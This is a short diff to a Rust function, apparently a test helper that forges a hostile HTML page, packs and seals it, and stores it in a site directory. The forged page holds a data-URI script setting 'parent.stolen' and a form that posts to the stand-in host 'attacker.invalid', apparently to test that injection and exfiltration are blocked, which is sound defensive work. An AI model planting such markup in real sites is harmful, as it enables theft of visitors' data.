@@ -69,7 +69,8 @@ fn forge(site: &Path, email: &str, pass: &str) -> String {
 <object data="data:text/html,<script>parent.stolen=1</script>"></object>
 <form action="https://attacker.invalid/"><button id="send">Send</button></form>
 </main></body></html>"#;
-    let sealed = scoresite::seal::to_recipients(page.as_bytes(), &[identity.to_public()]).unwrap();
+    let packed = scoresite::seal::pack(page.as_bytes()).unwrap();
+    let sealed = scoresite::seal::to_recipients(&packed, &[identity.to_public()]).unwrap();
     std::fs::write(site.join(session.stored_name(&path)), sealed).unwrap();
     path
 }
